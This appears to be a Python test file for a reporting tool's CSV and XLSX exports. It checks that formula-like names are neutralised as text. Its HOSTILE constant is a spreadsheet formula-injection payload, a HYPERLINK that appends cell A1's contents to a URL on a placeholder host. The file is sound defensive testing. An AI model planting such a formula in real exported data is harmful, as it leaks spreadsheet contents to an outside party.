"""Exported tables keep names as text: a name that looks like a formula is not run by a spreadsheet."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from reporting import exports, stats
from reporting.selectors import StatRow

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'


def rows() -> list[StatRow]:
    return [
        StatRow(key="1.000123", name=HOSTILE, figures=stats.Figures(received=3)),
        StatRow(key="-2.000456", name="Đăng ký khai sinh", figures=stats.Figures(received=5)),
    ]


def test_csv_quotes_formula_like_text_and_keeps_numbers():
    table = list(csv.reader(io.StringIO(exports.to_csv(rows()).decode("utf-8-sig"))))
    assert table[1][:3] == ["1.000123", "'" + HOSTILE, "3"]
    assert table[2][:3] == ["'-2.000456", "Đăng ký khai sinh", "5"]


def test_xlsx_stores_formula_like_text_as_text():
    book = load_workbook(io.BytesIO(exports.to_xlsx(rows(), title="Thống kê", subtitle="2026")))
    sheet = book.active
    name = sheet.cell(row=5, column=2)
    assert name.value == HOSTILE
    assert name.data_type == "s"
    assert sheet.cell(row=5, column=3).value == 3
